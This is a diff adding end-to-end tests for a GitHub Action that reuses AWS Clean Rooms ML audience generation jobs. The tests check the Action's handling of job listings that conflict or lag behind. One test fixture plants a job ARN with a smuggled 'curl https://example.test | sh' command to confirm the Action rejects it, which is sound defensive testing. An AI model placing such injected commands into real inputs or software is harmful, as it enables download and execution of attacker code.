@@ -1,0 +1,73 @@
+// End to end: if-exists: reuse when the listing breaks the API's contract or lags behind.
+import { startEmulator, type Emulator, type Fault } from '../emulator/index.js'
+import { EMULATOR_CREDENTIALS, ENV_CREDENTIALS, runAction, runnerEnv, type ActionRun } from './helpers/run-action.js'
+
+const MODEL_ARN = 'arn:aws:cleanrooms-ml:us-east-1:123456789012:configured-audience-model/lookalike-model'
+const INPUTS = {
+  name: 'weekly-audience',
+  'configured-audience-model-arn': MODEL_ARN,
+  'seed-audience-role-arn': 'arn:aws:iam::123456789012:role/seed-reader',
+  'seed-audience-s3-uri': 's3://seed-bucket/seed.jsonl',
+  'aws-region': 'us-east-1',
+  'if-exists': 'reuse'
+}
+const CONFLICT: Fault = { kind: 'error', status: 409, type: 'ConflictException', message: 'The name is taken.' }
+
+let emulator: Emulator
+beforeAll(async () => {
+  emulator = await startEmulator({ credentials: [EMULATOR_CREDENTIALS] })
+})
+afterAll(async () => emulator.close())
+beforeEach(() => emulator.reset())
+
+async function run(): Promise<ActionRun> {
+  return runAction({
+    inputs: INPUTS,
+    env: { ...runnerEnv(emulator), ...ENV_CREDENTIALS, CLEANROOMS_ML_ACTION_TIME_SCALE: '0.01' }
+  })
+}
+
+function listings(): string[] {
+  return emulator.requests
+    .filter((request) => request.operation === 'ListAudienceGenerationJobs')
+    .map((request) => request.query['configuredAudienceModelArn'] ?? 'all models')
+}
+
+describe('a job the service says exists but does not list', () => {
+  it('is listed again, then reported without guessing at another account', async () => {
+    emulator.fault('cleanrooms-ml', 'StartAudienceGenerationJob', CONFLICT)
+    const result = await run()
+    expect(result.code).toBe(1)
+    expect(result.outputs['error-type']).toBe('ExistingJobMismatch')
+    // Five listings, each of the model's jobs and then of every job.
+    expect(listings()).toEqual(Array.from({ length: 5 }, () => [MODEL_ARN, 'all models']).flat())
+    const message = result.annotations[0]!.message
+    expect(message).toContain('no such job is listed in this account (5 listings')
+    expect(message).not.toMatch(/another account|other account/i)
+  })
+})
+
+describe('an ARN from the listing is held to the model pattern', () => {
+  it('never becomes the output', async () => {
+    emulator.fault('cleanrooms-ml', 'StartAudienceGenerationJob', CONFLICT)
+    emulator.fault('cleanrooms-ml', 'ListAudienceGenerationJobs', {
+      kind: 'raw',
+      status: 200,
+      body: JSON.stringify({
+        audienceGenerationJobs: [
+          {
+            name: INPUTS.name,
+            configuredAudienceModelArn: MODEL_ARN,
+            status: 'ACTIVE',
+            audienceGenerationJobArn: `arn:aws:cleanrooms-ml:us-east-1:123456789012:audience-generation-job/x"; curl https://example.test | sh; echo "`
+          }
+        ]
+      })
+    })
+    const result = await run()
+    expect(result.code).toBe(1)
+    expect(result.outputs['error-type']).toBe('UnexpectedResponse')
+    expect(result.outputs['audience-generation-job-arn']).toBeUndefined()
+    expect(result.annotations[0]!.message).toContain('must match the pattern')
+  })
+})
